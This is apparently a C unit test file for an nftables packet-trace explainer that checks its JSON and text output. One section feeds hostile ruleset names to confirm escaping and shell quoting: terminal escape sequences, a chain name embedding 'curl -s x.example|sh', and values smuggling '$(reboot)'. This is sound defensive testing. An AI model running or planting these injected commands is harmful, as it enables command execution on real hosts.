/* SPDX-License-Identifier: GPL-2.0-or-later */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>
#include <jansson.h>

#include "explain_text.h"
#include "format.h"
#include "helpers.h"

/* The style the run_*() helpers render in (--verbose, --color); NULL: the default. */
static const struct text_style *style;

#define OWN "trace_debug"

/* A ruleset of three rules, one of them deleted since. */
static const char *fake_rule(void *ctx, uint8_t family, const char *table, const char *chain,
			     uint64_t handle, bool *ret_deleted)
{
	(void)ctx;
	(void)chain;
	*ret_deleted = false;
	if (family != NFPROTO_INET)
		return NULL;
	if (strcmp(table, "nat") == 0 && handle == 3)
		return "iifname \"wan0\" tcp dport 1222 dnat ip to 203.0.113.10:22";
	if (strcmp(table, "filter") == 0 && handle == 5)
		return "ct status dnat jump allowed_dnats";
	if (strcmp(table, "filter") == 0 && handle == 7)
		return "drop";
	if (strcmp(table, "filter") == 0 && handle == 6) {
		*ret_deleted = true;
		return "ip daddr . tcp dport @allow_in accept";
	}
	return NULL;
}

static const char *fake_hook(void *ctx, uint8_t family, const char *table, const char *chain)
{
	(void)ctx;
	(void)family;
	(void)table;
	if (strcmp(chain, "allowed_dnats") == 0)
		return NULL;
	return chain; /* base chains are named after their hooks here */
}

static const char *fake_ifname(void *ctx, uint32_t ifindex)
{
	(void)ctx;
	return ifindex == 2 ? "wan0" : ifindex == 3 ? "lan0" : NULL;
}

static const struct resolver resolver = {
	.rule = fake_rule,
	.hook = fake_hook,
	.ifname = fake_ifname,
};

struct out {
	char *json;
	char *text;
};

static struct explain ex;

static void render(void *ctx, const struct timeline *tl, enum timeline_end why)
{
	struct out *o = ctx;
	size_t len;
	FILE *f;

	(void)why;
	explain_timeline(tl, &resolver, &ex);
	f = open_memstream(&o->json, &len);
	assert_int_equal(format_json_line(f, tl, &ex), 0);
	fclose(f);
	f = open_memstream(&o->text, &len);
	assert_int_equal(format_text_styled(f, tl, &ex, style), 0);
	fclose(f);
}

static void add(struct timeline_table *t, struct trace_event ev)
{
	timeline_add(t, &ev, 0);
}

static struct out run(bool accept, bool own_start)
{
	struct out o = {};
	struct timeline_config cfg = {
		.own_table = OWN,
		.own_family = NFPROTO_INET,
		.max_inflight = 4,
		.emit = render,
		.emit_ctx = &o,
	};
	struct timeline_table *t;
	struct test_pkt in, fwd;
	const uint32_t id = 0x06fed0fb;
	struct trace_event ev;

	assert_int_equal(timeline_table_new(&cfg, &t), 0);
	test_ipv4_tcp(&in, "198.51.100.2", 44976, "198.51.100.1", 1222, 0x02);
	test_ipv4_tcp(&fwd, "198.51.100.2", 44976, "203.0.113.10", 22, 0x02);
	if (own_start)
		add(t, test_with_pkt(test_rule(id, OWN, "trace_prerouting", 2, NFT_CONTINUE, NULL),
				     &in, 2, 0));
	else
		timeline_loss_begin(t); /* the start was lost in an overrun */
	ev = test_with_pkt(test_rule(id, "nat", "prerouting", 3, NF_ACCEPT, NULL), &in, 2, 0);
	ev.present |= TRACE_HAS_CT_STATE | TRACE_HAS_CT_DIRECTION | TRACE_HAS_CT_ID;
	ev.ct_state = 8;
	ev.ct_id = 77;
	add(t, ev);
	ev = test_with_pkt(test_rule(id, "filter", "forward", 5, NFT_JUMP, "allowed_dnats"), &fwd,
			   2, 3);
	ev.present |= TRACE_HAS_CT_STATUS;
	ev.ct_status = 0x128;
	add(t, ev);
	if (accept) {
		add(t, test_rule(id, "filter", "allowed_dnats", 6, NF_ACCEPT, NULL));
		add(t, test_with_pkt(test_rule(id, "nat", "postrouting", 0, NFT_CONTINUE, NULL),
				     &fwd, 0, 3));
		add(t, test_policy(id, "nat", "postrouting", NF_ACCEPT));
		timeline_flush(t);
	} else {
		add(t, test_rule(id, "filter", "allowed_dnats", 7, NF_DROP, NULL));
	}
	timeline_table_free(t);
	assert_non_null(o.json);
	return o;
}

static json_t *parse(const char *line)
{
	json_error_t err;
	json_t *o;

	/* one object, one line */
	assert_non_null(strchr(line, '\n'));
	assert_null(strchr(line, '\n') + 1 == NULL ? NULL : strchr(strchr(line, '\n') + 1, '\n'));
	o = json_loads(line, 0, &err);
	assert_non_null(o);
	return o;
}

static const char *str(json_t *o, const char *path)
{
	json_t *v = o;
	char key[64];
	const char *p = path;

	while (*p) {
		size_t n = strcspn(p, ".");

		snprintf(key, sizeof(key), "%.*s", (int)n, p);
		if (json_is_array(v))
			v = json_array_get(v, strtoul(key, NULL, 10));
		else
			v = json_object_get(v, key);
		assert_non_null(v);
		p += n + (p[n] == '.');
	}
	if (json_is_integer(v)) {
		static char buf[32];

		snprintf(buf, sizeof(buf), "%lld", (long long)json_integer_value(v));
		return buf;
	}
	if (json_is_null(v))
		return "null";
	if (json_is_boolean(v))
		return json_is_true(v) ? "true" : "false";
	assert_true(json_is_string(v));
	return json_string_value(v);
}

static void test_json_drop_has_cause_path_and_dnat(void **state)
{
	struct out o = run(false, true);
	json_t *j = parse(o.json);

	(void)state;
	assert_string_equal(str(j, "id"), "06fed0fb");
	assert_string_equal(str(j, "verdict"), "drop");
	assert_string_equal(str(j, "complete"), "true");
	assert_string_equal(str(j, "packet.family"), "ip");
	assert_string_equal(str(j, "packet.proto"), "tcp");
	assert_string_equal(str(j, "packet.saddr"), "198.51.100.2");
	assert_string_equal(str(j, "packet.daddr"), "198.51.100.1");
	assert_string_equal(str(j, "packet.sport"), "44976");
	assert_string_equal(str(j, "packet.dport"), "1222");
	assert_string_equal(str(j, "packet.iif"), "wan0");
	assert_string_equal(str(j, "packet.oif"), "null");
	assert_string_equal(str(j, "packet.tcp_flags"), "syn");

	/* our own chain does not show */
	assert_int_equal(json_array_size(json_object_get(j, "events")), 3);
	assert_string_equal(str(j, "events.0.table"), "nat");
	assert_string_equal(str(j, "events.0.hook"), "prerouting");
	assert_string_equal(str(j, "events.0.type"), "rule");
	assert_string_equal(str(j, "events.0.handle"), "3");
	assert_string_equal(str(j, "events.0.rule"),
			    "iifname \"wan0\" tcp dport 1222 dnat ip to 203.0.113.10:22");
	assert_string_equal(str(j, "events.0.verdict"), "accept");
	assert_string_equal(str(j, "events.0.target"), "null");
	assert_string_equal(str(j, "events.0.ct.state.0"), "new");
	assert_string_equal(str(j, "events.0.ct.direction"), "original");
	assert_string_equal(str(j, "events.0.ct.id"), "77");
	assert_string_equal(str(j, "events.1.verdict"), "jump");
	assert_string_equal(str(j, "events.1.target"), "allowed_dnats");
	assert_string_equal(str(j, "events.1.packet.daddr"), "203.0.113.10");
	assert_string_equal(str(j, "events.1.packet.oif"), "lan0");
	assert_string_equal(str(j, "events.1.ct.status.0"), "confirmed");
	assert_string_equal(str(j, "events.1.ct.status.1"), "dnat");
	assert_string_equal(str(j, "events.1.ct.status.2"), "dnat-done");
	/* a regular chain is reached from the forward hook */
	assert_string_equal(str(j, "events.2.hook"), "forward");
	assert_null(json_object_get(json_array_get(json_object_get(j, "events"), 2), "packet"));

	assert_int_equal(json_array_size(json_object_get(j, "nat")), 1);
	assert_string_equal(str(j, "nat.0.type"), "dnat");
	assert_string_equal(str(j, "nat.0.from"), "198.51.100.1:1222");
	assert_string_equal(str(j, "nat.0.to"), "203.0.113.10:22");

	assert_string_equal(str(j, "cause.family"), "inet");
	assert_string_equal(str(j, "cause.table"), "filter");
	assert_string_equal(str(j, "cause.chain"), "allowed_dnats");
	assert_string_equal(str(j, "cause.handle"), "7");
	assert_string_equal(str(j, "cause.rule"), "drop");
	assert_string_equal(str(j, "cause.verdict"), "drop");
	assert_string_equal(str(j, "cause.path.0"), "forward");
	assert_string_equal(str(j, "cause.path.1"), "allowed_dnats");
	assert_string_equal(str(j, "ct.state.0"), "new");
	json_decref(j);
	free(o.json);
	free(o.text);
}

static void test_json_accept_deleted_rule_and_chain_end(void **state)
{
	struct out o = run(true, true);
	json_t *j = parse(o.json);

	(void)state;
	assert_string_equal(str(j, "verdict"), "accept");
	assert_string_equal(str(j, "events.2.rule"), "ip daddr . tcp dport @allow_in accept");
	assert_string_equal(str(j, "events.2.deleted"), "true");
	assert_string_equal(str(j, "events.3.type"), "return");
	assert_string_equal(str(j, "events.3.handle"), "null");
	assert_string_equal(str(j, "events.3.rule"), "null");
	assert_string_equal(str(j, "events.3.hook"), "postrouting");
	assert_string_equal(str(j, "events.4.type"), "policy");
	assert_string_equal(str(j, "events.4.verdict"), "accept");
	assert_string_equal(str(j, "cause.type"), "policy");
	assert_string_equal(str(j, "cause.chain"), "postrouting");
	assert_string_equal(str(j, "cause.rule"), "null");
	json_decref(j);
	free(o.json);
	free(o.text);
}

static void test_json_incomplete_when_start_lost(void **state)
{
	struct out o = run(false, false);
	json_t *j = parse(o.json);

	(void)state;
	assert_string_equal(str(j, "complete"), "false");
	/* the packet as first seen is then nat prerouting's */
	assert_string_equal(str(j, "packet.dport"), "1222");
	json_decref(j);
	free(o.json);
	free(o.text);
}

static void test_text_names_rules_rewrite_and_cause(void **state)
{
	struct out o = run(false, true);

	(void)state;
	assert_non_null(strstr(
		o.text,
		"trace 06fed0fb tcp 198.51.100.2:44976 -> 198.51.100.1:1222 [syn] iif wan0: drop\n"));
	assert_non_null(
		strstr(o.text, "  prerouting inet nat prerouting ct state new original id 77\n"));
	assert_non_null(strstr(
		o.text,
		"      rule `iifname \"wan0\" tcp dport 1222 dnat ip to 203.0.113.10:22` (handle 3): accept\n"));
	assert_non_null(strstr(
		o.text,
		"  dnat 198.51.100.1:1222 -> 203.0.113.10:22 by rule `iifname \"wan0\" tcp dport 1222 dnat ip to 203.0.113.10:22` (handle 3) at prerouting\n  forward inet filter forward"));
	assert_non_null(strstr(
		o.text,
		"      rule `ct status dnat jump allowed_dnats` (handle 5): jump allowed_dnats\n"));
	/* the jumped-to chain's rules are indented under the jump */
	assert_non_null(
		strstr(o.text, ": jump allowed_dnats\n        rule `drop` (handle 7): drop\n"));
	assert_non_null(strstr(
		o.text,
		"  verdict drop by rule `drop` (handle 7) in inet filter allowed_dnats, reached from inet filter forward at hook forward via jump allowed_dnats (handle 5)\n"));
	free(o.json);
	free(o.text);
}

static void test_text_accept_and_deleted_rule(void **state)
{
	struct out o = run(true, true);

	(void)state;
	assert_non_null(strstr(o.text, ": accept\n"));
	assert_non_null(strstr(
		o.text,
		"rule `ip daddr . tcp dport @allow_in accept` (handle 6, deleted): accept\n"));
	assert_non_null(strstr(
		o.text,
		"  postrouting inet nat postrouting; policy: accept (no rule matched)\n  accepted at"));
	assert_non_null(
		strstr(o.text,
		       "  verdict accept by policy in inet nat postrouting at hook postrouting\n"));
	free(o.json);
	free(o.text);
}

/* ---- what the ruleset names can hold (issue 19 item 8) ---- */

#define EVIL_COMMENT "\x1b]0;pwned\x07\x1b[31mred"
#define EVIL_RULE    "meta mark 0x1 drop comment \"" EVIL_COMMENT "\""
#define EVIL_CHAIN   "in\nput\x7f"
#define SHELL_CHAIN  "FWD;curl -s x.example|sh;#"
#define XT_RULE	     "xt match \"conntrack\" counter packets 0 bytes 0 drop"

static const char *hostile_rule(void *ctx, uint8_t family, const char *table, const char *chain,
				uint64_t handle, bool *ret_deleted)
{
	(void)ctx;
	(void)chain;
	(void)table;
	*ret_deleted = false;
	if (family == NFPROTO_IPV4 && handle == 11)
		return XT_RULE;
	return handle == 9 ? EVIL_RULE : NULL;
}

static const char *hostile_ifname(void *ctx, uint32_t ifindex)
{
	(void)ctx;
	return ifindex == 4 ? "ev\x1b[2Jil" : NULL;
}

static const struct resolver hostile = {
	.rule = hostile_rule,
	.hook = fake_hook,
	.ifname = hostile_ifname,
};

static void render_hostile(void *ctx, const struct timeline *tl, enum timeline_end why)
{
	struct out *o = ctx;
	size_t len;
	FILE *f;

	(void)why;
	explain_timeline(tl, &hostile, &ex);
	f = open_memstream(&o->json, &len);
	assert_int_equal(format_json_line(f, tl, &ex), 0);
	fclose(f);
	f = open_memstream(&o->text, &len);
	assert_int_equal(format_text_styled(f, tl, &ex, style), 0);
	fclose(f);
}

/* One packet dropped by rule handle in table/chain of family, entered on iif 4. */
static struct out run_hostile(uint8_t family, const char *table, const char *chain, uint64_t handle)
{
	struct out o = {};
	struct timeline_config cfg = {
		.own_table = OWN,
		.own_family = NFPROTO_INET,
		.max_inflight = 4,
		.emit = render_hostile,
		.emit_ctx = &o,
	};
	struct timeline_table *t;
	struct test_pkt in;
	struct trace_event ev;

	assert_int_equal(timeline_table_new(&cfg, &t), 0);
	test_ipv4_tcp(&in, "198.51.100.2", 44976, "198.51.100.1", 1222, 0x02);
	add(t,
	    test_with_pkt(test_rule(7, OWN, "trace_prerouting", 2, NFT_CONTINUE, NULL), &in, 4, 0));
	ev = test_with_pkt(test_rule(7, table, chain, handle, NF_DROP, NULL), &in, 4, 0);
	ev.family = family;
	add(t, ev);
	timeline_table_free(t);
	assert_non_null(o.text);
	return o;
}

static void test_text_escapes_control_bytes_from_the_ruleset(void **state)
{
	struct out o = run_hostile(NFPROTO_INET, "filter", EVIL_CHAIN, 9);
	json_t *j = parse(o.json);

	(void)state;
	/* no byte the terminal would obey: only the renderer's own line ends */
	for (const char *p = o.text; *p; p++)
		if ((unsigned char)*p < 0x20 || (unsigned char)*p == 0x7f)
			assert_int_equal(*p, '\n');
	assert_non_null(strstr(o.text, "comment \"\\x1b]0;pwned\\x07\\x1b[31mred\""));
	assert_non_null(strstr(o.text, " iif ev\\x1b[2Jil: drop\n"));
	/* a newline in a chain name forges no line */
	assert_non_null(strstr(o.text, "  in\\x0aput\\x7f inet filter in\\x0aput\\x7f\n"));
	assert_non_null(
		strstr(o.text, " in inet filter in\\x0aput\\x7f at hook in\\x0aput\\x7f\n"));
	/* JSON keeps the bytes, escaped by its own rules */
	assert_string_equal(str(j, "cause.rule"), EVIL_RULE);
	assert_string_equal(str(j, "cause.chain"), EVIL_CHAIN);
	assert_string_equal(str(j, "packet.iif"), "ev\x1b[2Jil");
	json_decref(j);
	free(o.json);
	free(o.text);
}

static void test_text_stream_escapes_c1_controls(void **state)
{
	char *buf = NULL;
	size_t len;
	FILE *raw = open_memstream(&buf, &len), *esc;

	(void)state;
	esc = format_text_stream(raw);
	assert_non_null(esc);
	/* U+009B (CSI) in UTF-8, then a plain é (0xc3 0xa9) and U+00A0 */
	fputs("a\xc2\x9b"
	      "31mb \xc3\xa9 \xc2\xa0",
	      esc);
	fputc('\0', esc);
	fputs("\xc2", esc);
	fclose(esc);
	fclose(raw);
	assert_string_equal(buf, "a\\xc2\\x9b31mb \xc3\xa9 \xc2\xa0\n\xc2");
	free(buf);
}

static void test_iptables_hint_quotes_the_chain_for_the_shell(void **state)
{
	struct out o = run_hostile(NFPROTO_IPV4, "filter", SHELL_CHAIN, 11);
	json_t *j = parse(o.json);

	(void)state;
	assert_non_null(strstr(o.text, "`iptables-nft -t filter -S 'FWD;curl -s x.example|sh;#'`"));
	assert_null(strstr(o.text, "-S FWD;"));
	json_decref(j);
	free(o.json);
	free(o.text);
}

static void test_set_hint_command_quotes_names_and_key(void **state)
{
	struct explain_hint h = {
		.evaluated = true,
		.suggest = true,
		.family = NFPROTO_INET,
		.table = "t;reboot",
		.set = "it's",
		.key = "\"$(reboot)\" . 22",
	};
	char buf[512];

	(void)state;
	explain_hint_command(&h, buf, sizeof(buf));
	assert_string_equal(buf,
			    "nft add element inet 't;reboot' 'it'\\''s' '{ \"$(reboot)\" . 22 }'");
	/* plain names and keys read as before */
	h.table = "filter";
	snprintf(h.set, sizeof(h.set), "allow_in");
	snprintf(h.key, sizeof(h.key), "203.0.113.10 . tcp . 22");
	explain_hint_command(&h, buf, sizeof(buf));
	assert_string_equal(buf,
			    "nft add element inet filter allow_in { 203.0.113.10 . tcp . 22 }");
}

/* ---- at a glance (issue 23 part 6): a firewalld zone's empty chains ---- */

static const char *zone_rule(void *ctx, uint8_t family, const char *table, const char *chain,
			     uint64_t handle, bool *ret_deleted)
{
	static const char *const rules[] = {
		[20] = "jump zones",
		[21] = "iifname \"wan0\" goto IN_public",
		[22] = "jump IN_public_pre",
		[23] = "jump IN_public_log",
		[24] = "jump IN_public_deny",
		[25] = "jump IN_public_allow",
		[26] = "jump POLICIES_post",
		[27] = "reject with icmpx admin-prohibited",
		[28] = "log prefix \"public\"",
	};

	(void)ctx;
	(void)family;
	(void)table;
	(void)chain;
	*ret_deleted = false;
	return handle < sizeof(rules) / sizeof(rules[0]) ? rules[handle] : NULL;
}

static const char *zone_hook(void *ctx, uint8_t family, const char *table, const char *chain)
{
	(void)ctx;
	(void)family;
	(void)table;
	return strcmp(chain, "input") == 0 ? "input" : NULL;
}

static const struct resolver zone_resolver = {
	.rule = zone_rule,
	.hook = zone_hook,
	.ifname = fake_ifname,
};

static void render_zone(void *ctx, const struct timeline *tl, enum timeline_end why)
{
	struct out *o = ctx;
	size_t len;
	FILE *f;

	(void)why;
	explain_timeline(tl, &zone_resolver, &ex);
	f = open_memstream(&o->text, &len);
	assert_int_equal(format_text_styled(f, tl, &ex, style), 0);
	fclose(f);
}

/*
 * input jumps to zones, which goes to IN_public; that jumps into five
 * chains where nothing matches (with log: IN_public_log's log rule
 * matches) and rejects.
 */
static struct out run_zone(bool log)
{
	struct out o = {};
	struct timeline_config cfg = {
		.own_table = OWN,
		.own_family = NFPROTO_INET,
		.max_inflight = 4,
		.emit = render_zone,
		.emit_ctx = &o,
	};
	static const char *const chains[] = { "IN_public_pre", "IN_public_log", "IN_public_deny",
					      "IN_public_allow", "POLICIES_post" };
	struct timeline_table *t;
	struct test_pkt in;

	assert_int_equal(timeline_table_new(&cfg, &t), 0);
	test_ipv4_tcp(&in, "198.51.100.2", 40005, "198.51.100.1", 23, 0x02);
	add(t,
	    test_with_pkt(test_rule(9, OWN, "trace_prerouting", 2, NFT_CONTINUE, NULL), &in, 2, 0));
	add(t, test_with_pkt(test_rule(9, "fw", "input", 20, NFT_JUMP, "zones"), &in, 2, 0));
	add(t, test_rule(9, "fw", "zones", 21, NFT_GOTO, "IN_public"));
	for (unsigned int c = 0; c < 5; c++) {
		add(t, test_rule(9, "fw", "IN_public", 22 + c, NFT_JUMP, chains[c]));
		if (log && c == 1)
			add(t, test_rule(9, "fw", chains[c], 28, NFT_CONTINUE, NULL));
		add(t, test_rule(9, "fw", chains[c], 0, NFT_CONTINUE, NULL));
	}
	add(t, test_rule(9, "fw", "IN_public", 27, NF_DROP, NULL));
	timeline_table_free(t);
	assert_non_null(o.text);
	return o;
}

static unsigned int lines(const char *text)
{
	unsigned int n = 0;

	for (; *text; text++)
		n += *text == '\n';
	return n;
}

static void test_text_folds_jumps_into_empty_chains(void **state)
{
	struct out o = run_zone(false);

	(void)state;
	/* the first line's word is the verdict line's: the rule rejects */
	assert_non_null(strstr(o.text, "[syn] iif wan0: reject\n"));
	assert_non_null(strstr(o.text, "  verdict reject by rule `reject with icmpx"));
	/* the jumps on the way to the verdict keep their lines */
	assert_non_null(strstr(o.text, "      rule `jump zones` (handle 20): jump zones\n"));
	assert_non_null(strstr(
		o.text, ": goto IN_public\n"
			"          jumps to IN_public_{pre,log,deny,allow}, "
			"POLICIES_post: no rule matched\n"
			"          rule `reject with icmpx admin-prohibited` (handle 27): drop\n"));
	assert_null(strstr(o.text, "rule `jump IN_public_pre`"));
	assert_int_equal(lines(o.text), 8);
	free(o.text);
}

static void test_text_keeps_a_rule_that_matched_in_a_jumped_chain(void **state)
{
	struct out o = run_zone(true);

	(void)state;
	/* the log rule matched: its jump and it keep their lines, the others fold */
	assert_non_null(strstr(
		o.text,
		"          rule `jump IN_public_pre` (handle 22): jump "
		"IN_public_pre (no rule matched there, returned)\n"
		"          rule `jump IN_public_log` (handle 23): jump IN_public_log\n"
		"            rule `log prefix \"public\"` (handle 28): continue\n"
		"          jumps to IN_public_{deny,allow}, POLICIES_post: no rule matched\n"));
	free(o.text);
}

static void test_text_verbose_keeps_every_jump(void **state)
{
	struct out o;

	(void)state;
	style = &(const struct text_style){ .verbose = true };
	o = run_zone(false);
	style = NULL;
	assert_null(strstr(o.text, "jumps to"));
	assert_non_null(strstr(o.text, "rule `jump POLICIES_post` (handle 26): jump POLICIES_post "
				       "(no rule matched there, returned)\n"));
	assert_int_equal(lines(o.text), 12);
	free(o.text);
}

/* Colour goes past the escaping stream; the ruleset's bytes still do not. */
static void test_text_color_is_ours_alone(void **state)
{
	struct out o;

	(void)state;
	style = &(const struct text_style){ .color = true };
	o = run_hostile(NFPROTO_INET, "filter", EVIL_CHAIN, 9);
	style = NULL;
	assert_non_null(strstr(o.text, ": \033[31mdrop\033[0m\n"));
	assert_non_null(strstr(o.text, "  verdict \033[31mdrop\033[0m by rule"));
	assert_non_null(
		strstr(o.text, "\033[2m  in\\x0aput\\x7f inet filter in\\x0aput\\x7f\033[0m\n"));
	assert_non_null(strstr(o.text, "comment \"\\x1b]0;pwned\\x07\\x1b[31mred\""));
	/* every escape byte starts one of our colour changes */
	for (const char *p = o.text; (p = strchr(p, '\033')); p++)
		assert_true(strncmp(p, "\033[31m", 5) == 0 || strncmp(p, "\033[0m", 4) == 0 ||
			    strncmp(p, "\033[2m", 4) == 0);
	free(o.json);
	free(o.text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_json_drop_has_cause_path_and_dnat),
		cmocka_unit_test(test_json_accept_deleted_rule_and_chain_end),
		cmocka_unit_test(test_json_incomplete_when_start_lost),
		cmocka_unit_test(test_text_names_rules_rewrite_and_cause),
		cmocka_unit_test(test_text_accept_and_deleted_rule),
		cmocka_unit_test(test_text_escapes_control_bytes_from_the_ruleset),
		cmocka_unit_test(test_text_stream_escapes_c1_controls),
		cmocka_unit_test(test_iptables_hint_quotes_the_chain_for_the_shell),
		cmocka_unit_test(test_set_hint_command_quotes_names_and_key),
		cmocka_unit_test(test_text_folds_jumps_into_empty_chains),
		cmocka_unit_test(test_text_keeps_a_rule_that_matched_in_a_jumped_chain),
		cmocka_unit_test(test_text_verbose_keeps_every_jump),
		cmocka_unit_test(test_text_color_is_ours_alone),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
